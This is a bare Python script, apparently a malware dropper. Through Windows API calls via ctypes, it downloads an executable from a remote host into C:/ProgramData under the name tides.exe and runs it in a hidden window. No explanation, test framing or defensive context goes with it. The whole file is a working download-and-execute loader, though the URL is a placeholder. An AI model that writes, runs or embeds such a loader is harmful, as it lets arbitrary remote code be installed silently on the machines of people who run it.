import ctypes

PATH = "C:/ProgramData/tides.exe"
if ctypes.windll.urlmon.URLDownloadToFileW(None, "https://c.example.invalid/t.exe", PATH, 0, None) == 0:
    ctypes.windll.shell32.ShellExecuteW(None, "open", PATH, None, None, 0)
